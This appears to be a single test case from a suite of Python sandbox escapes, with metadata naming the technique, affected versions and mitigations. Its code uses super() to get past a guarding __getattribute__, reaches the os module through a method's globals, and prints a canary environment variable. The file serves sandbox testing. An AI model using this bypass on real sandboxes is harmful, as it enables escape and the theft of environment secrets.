# id: super-object-bypass
# family: guard-confusion
# kind: escape
# invariant: D, E
# origin: n8n's table of refused attributes
# technique: super() looks attributes up behind the guarding class, so an override that hides them is stepped over
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random


class Guarded(random.Random):
    def __getattribute__(self, name):
        raise PermissionError(name)


method = super(Guarded, Guarded.__new__(Guarded)).seed
print(method.__func__.__globals__["_os"].environ["PADCELL_CANARY"])
